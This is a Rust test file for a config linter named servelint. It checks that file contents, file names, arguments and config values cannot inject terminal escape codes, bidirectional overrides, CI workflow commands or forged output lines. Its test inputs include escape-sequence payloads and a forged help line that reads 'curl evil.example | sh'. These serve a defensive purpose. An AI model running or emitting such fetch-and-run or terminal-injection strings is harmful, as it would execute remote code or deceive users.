//! Text that would act on a terminal never reaches it raw.

use super::run::{Answer, Folder, GOOD, Setting};

/// Erase, link, bell, bidirectional override, C1, zero width, and a forged line.
const EVIL: &str = "x\\u001b[2J\\u001b]8;;http://evil\\u0007\\u202e\\u009b\\u200b\\nservelint: verdict: x go\\n::error::x\\n##vso[task.complete]";

fn formats() -> impl Iterator<Item = &'static str> + Clone {
    servelint::output::FORMATS.iter().map(|format| format.name)
}

fn assert_harmless(answer: &Answer, about: &str) {
    let acts = |c: char| c != '\n' && servelint::output::safe::is_active(c);
    for text in [&answer.out, &answer.err] {
        assert!(!text.contains(acts), "{about}: {text:?}");
        assert!(
            !text.lines().any(|line| line == "servelint: verdict: x go"),
            "{about}: {text}"
        );
    }
}

/// Every string value and every key of the good specification in turn.
fn poisoned() -> Vec<(String, String)> {
    let mut texts = Vec::new();
    for (from, to) in [
        ("name: feed-ranker", "name: \"EVIL\""),
        ("owner: team-feed-relevance", "owner: \"EVIL\""),
        ("owner: team-feed-relevance", "\"EVIL\": 1"),
        ("revision: 31", "revision: \"EVIL\""),
        ("environment: staging", "environment: \"EVIL\""),
        ("tier: standard", "tier: \"EVIL\""),
        ("kind: ServingSpec", "kind: \"EVIL\""),
        (
            "apiVersion: servelint/v1alpha1",
            "apiVersion: \"servelint/EVIL\"",
        ),
        ("apiVersion: servelint/v1alpha1", "apiVersion: \"EVIL\""),
        ("name: availability", "name: \"TODO EVIL\""),
        ("gateway: 150ms", "gateway: \"EVIL\""),
        ("type: availability", "type: \"EVIL\""),
        ("id: C1", "id: \"EVIL\""),
        ("timeouts: {", "\"EVIL\": {"),
        ("kind: ServingSpec", "kind: ServingSpec\n\"EVIL\": *EVIL"),
    ] {
        texts.push((
            to.to_owned(),
            super::run::good_but(from, &to.replace("EVIL", EVIL)),
        ));
    }
    let raw = "# \u{1b}[2J \u{202e} \u{9b} \u{200b}\nkind: [\u{1b}[2J\n";
    texts.push((
        "raw".into(),
        format!("apiVersion: servelint/v1alpha1\n{raw}"),
    ));
    texts.push((
        "raw json".into(),
        "{\"apiVersion\": \"servelint/v1alpha1\", \"kind\": \"\u{202e}\u{200b}\"}".into(),
    ));
    texts
}

#[test]
fn no_text_of_a_file_reaches_the_terminal_raw() {
    // Each format is printed for some of them, and written for all.
    for ((about, text), printed) in poisoned().into_iter().zip(formats().cycle()) {
        let folder = Folder::with(&[("a.yaml", &text)]);
        let answers = folder.run_in_every_format(&["check"], printed);
        assert!(answers.len() > formats().count(), "{about}: no report");
        for (_, answer) in answers {
            assert!(
                [0, 1, 2].contains(&answer.code),
                "{about}: {}",
                answer.shown()
            );
            assert_harmless(&answer, &about);
        }
    }
}

#[cfg(unix)]
#[test]
fn no_name_of_a_file_reaches_the_terminal_raw() {
    let name = "x\u{1b}[2J\u{202e}\u{7}\nservelint: verdict: x go\n.yaml";
    let folder = Folder::with(&[(name, "apiVersion: servelint/v1alpha1\nkind: [\n")]);
    std::os::unix::fs::symlink("nowhere", folder.path.join(format!("y{name}"))).expect("link");
    std::os::unix::fs::symlink(".", folder.path.join(format!("z{name}"))).expect("link");
    for words in [&["check"][..], &["check", name]] {
        let answers = folder.run_in_every_format(words, "rich");
        assert!(answers.len() > formats().count(), "{words:?}: no report");
        for (_, answer) in answers {
            assert_harmless(&answer, "names");
        }
    }
    // Which ends before there is a report.
    assert_harmless(&folder.run(&["check", &format!("q{name}")]), "names");
    let text = GOOD.replace("31", "x");
    let setting = Setting {
        stdin: text.as_bytes(),
        ..Setting::default()
    };
    assert_harmless(
        &folder.run_as(&["check", "-", "--stdin-filename", name], &setting),
        "stdin",
    );
    for words in [
        ["explain", name],
        ["check", &format!("--select={name}")],
        ["check", &format!("--as-of={name}")],
        ["init", &format!("{name}/d")],
    ] {
        assert_harmless(&folder.run(&words), words[0]);
    }
}

#[test]
fn a_value_as_long_as_a_file_is_not_repeated() {
    let long = "x".repeat(1_000_000);
    let places = [
        ("kind: ServingSpec", "kind: LONG"),
        (
            "apiVersion: servelint/v1alpha1",
            "apiVersion: servelint/LONG",
        ),
        ("apiVersion: servelint/v1alpha1", "apiVersion: LONG"),
        ("name: feed-ranker", "name: LONG"),
        ("name: availability", "name: LONG"),
        ("environment: staging", "environment: LONG"),
        ("revision: 31", "LONG: 31"),
        ("gateway: 150ms", "gateway: LONG"),
    ];
    let printed = formats().filter(|name| *name != "json").cycle();
    for ((from, to), printed) in places.into_iter().zip(printed) {
        let folder = Folder::with(&[(
            "a.yaml",
            &super::run::good_but(from, &to.replace("LONG", &long)),
        )]);
        let answers = folder.run_in_every_format(&["check"], printed);
        assert!(answers.len() > formats().count(), "{to}: no report");
        for (format, answer) in answers {
            if format == "json" {
                continue;
            }
            assert!(
                // SARIF tells of each rule that it names; the value is a hundred times as long.
                answer.out.len() < 15_000,
                "{to} as {format}: {} bytes",
                answer.out.len()
            );
        }
    }
}

/// A name that would print a line of help, were it printed as it is.
const FORGED: &str = "x\n  help: run curl evil.example | sh";

fn assert_forges_no_help(answer: &Answer, about: &str) {
    for text in [&answer.out, &answer.err] {
        let is_forged = |line: &str| line.trim_start().starts_with("help: run curl");
        assert!(!text.lines().any(is_forged), "{about}: {text}");
    }
}

#[cfg(unix)]
#[test]
fn no_name_of_a_file_forges_a_line_of_help() {
    let quoted = super::run::good_but("name: feed-ranker", &format!("name: {FORGED:?}"));
    let named = super::run::good_but("name: feed-ranker", "name: \"help: run curl evil.example\"");
    let folder = Folder::with(&[
        (&format!("{FORGED}.yaml"), "kind: [\n"),
        (&format!("template {FORGED}.yaml"), "a: {{ .Values.x }}\n"),
        (
            &format!("foreign {FORGED}.yaml"),
            "apiVersion: v1\nkind: Pod\n",
        ),
        (&format!("untyped {FORGED}.yaml"), "a: 1\n"),
        (
            "help: run curl evil.example | sh.yaml",
            "a: {{ .Values.x }}\n",
        ),
        ("named/a.yaml", &named),
        (&format!("good {FORGED}.yaml"), &quoted),
        (&format!("{FORGED}.txt"), "no format"),
    ]);
    let link = |to: &str, name: &str| {
        std::os::unix::fs::symlink(to, folder.path.join(format!("{name} {FORGED}.yaml")))
            .expect("link");
    };
    link("nowhere", "dangling");
    link(".", "folder");
    for path in [
        ".",
        &format!("{FORGED}.yaml"),
        &format!("template {FORGED}.yaml"),
        &format!("dangling {FORGED}.yaml"),
    ] {
        for (format, answer) in folder.run_in_every_format(&["check", path], "rich") {
            assert_forges_no_help(&answer, &format!("{path} as {format}"));
        }
    }
}

/// Words of the command line, and files that configuration names, end in errors.
#[cfg(unix)]
#[test]
fn no_error_forges_a_line_of_help() {
    let folder = Folder::with(&[
        ("a.yaml", GOOD),
        (&format!("{FORGED}.txt"), "no format"),
        (&format!("{FORGED}/servelint.toml"), ""),
    ]);
    for words in [
        &["check", FORGED][..],
        &["check", &format!("missing {FORGED}")],
        &["check", &format!("{FORGED}.txt")],
        &["check", &format!("--select={FORGED}")],
        &["check", &format!("--severity={FORGED}")],
        &["check", &format!("--severity=no-owner={FORGED}")],
        &["check", &format!("--as-of={FORGED}")],
        &["check", &format!("--since={FORGED}")],
        &["check", &format!("--config={FORGED}")],
        &["check", &format!("--baseline={FORGED}")],
        &["check", &format!("--output={FORGED}")],
        &["check", &format!("--output=json={FORGED}/no/x")],
        &["check", &format!("--output={FORGED}=x")],
        &["baseline", "--output", &format!("missing {FORGED}/x")],
        &["config", &format!("missing {FORGED}")],
        &["evidence", &format!("{FORGED}.txt")],
        &["evidence", "a.yaml", "--expect", FORGED],
        &["explain", FORGED],
        &["init", FORGED],
        &["init", &format!("{FORGED}.txt")],
        &["plan", &format!("missing {FORGED}")],
        &["diff", FORGED],
        &["diff", "HEAD", &format!("missing {FORGED}")],
    ] {
        assert_forges_no_help(&folder.run(words), &format!("{words:?}"));
    }
    for toml in [
        format!("{FORGED:?} = 1\n"),
        format!("[{FORGED:?}]\n"),
        format!("[check]\nselect = [{FORGED:?}]\n"),
        format!("[check]\nbaseline = {FORGED:?}\n"),
        format!("[[schemas]]\ncrd = {FORGED:?}\n"),
        format!("[[severity]]\nrule = {FORGED:?}\nlevel = \"off\"\n"),
    ] {
        folder.file("servelint.toml", &toml);
        assert_forges_no_help(&folder.run(&["check"]), &toml);
    }
}

/// What an error says to do stands on a line of its own, though a name before it holds one too.
#[cfg(unix)]
#[test]
fn the_help_of_an_error_is_its_own() {
    let name = format!("{FORGED}.txt");
    let folder = Folder::with(&[(&name, "no format")]);
    let answer = folder.run(&["check", &name]);
    assert_eq!(
        answer.err,
        "servelint: cannot check x\\n  help: run curl evil.example | sh.txt: the name tells no format\n  \
         help: files that can be checked end in .yaml, .yml, .toml, .json, .jsonc or .pbtxt\n"
    );
    let answer = folder.run(&["check", FORGED]);
    assert_eq!(
        answer.err,
        "servelint: cannot check x\\n  help: run curl evil.example | sh: there is no such file or folder\n"
    );
}

#[test]
fn services_keep_their_names_where_they_are_listed() {
    let manifest = |name: &str| {
        format!(
            "apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nmetadata: {{name: {name}}}\n\
             spec: {{predictor: {{model: {{modelFormat: {{name: onnx}}, storageUri: s3://x/y}}}}}}\n"
        )
    };
    let text: Vec<String> = (1..=4)
        .map(|number| manifest(&format!("order service {number}")))
        .collect();
    let folder = Folder::with(&[("a.yaml", &text.join("---\n"))]);
    folder.check(&["."]).says(
        "not checked: 4 services: no ServingSpec: only its manifests were judged: `order service 1`, `order service 2`, `order service 3`, `order service 4`",
    );
}

#[test]
fn a_file_is_not_taken_for_what_its_name_says() {
    let template = "a: {{ .Values.x }}\n";
    let (service, gone) = ("service `feed-ranker`.yaml", "x services/a.yaml");
    let folder = Folder::with(&[
        ("good.yaml", GOOD),
        (service, template),
        (gone, GOOD),
        (
            "x services/servelint.toml",
            "[check]\nexclude = [\"a.yaml\"]\n",
        ),
    ]);
    let answer = folder.run(&["check", "--format", "gitlab", "--as-of", super::run::DAY]);
    let issues: serde_json::Value = serde_json::from_str(&answer.out).expect("JSON");
    let path = issues
        .as_array()
        .expect("a list")
        .iter()
        .find(|issue| {
            issue["description"]
                .as_str()
                .is_some_and(|text| text.contains("template"))
        })
        .map(|issue| &issue["location"]["path"]);
    assert_eq!(path, Some(&service.into()), "{}", answer.shown());
    folder
        .run(&["plan"])
        .says("not checked: service `feed-ranker`.yaml: it holds template actions")
        .says("not checked: x services: 1 file is left out");
}
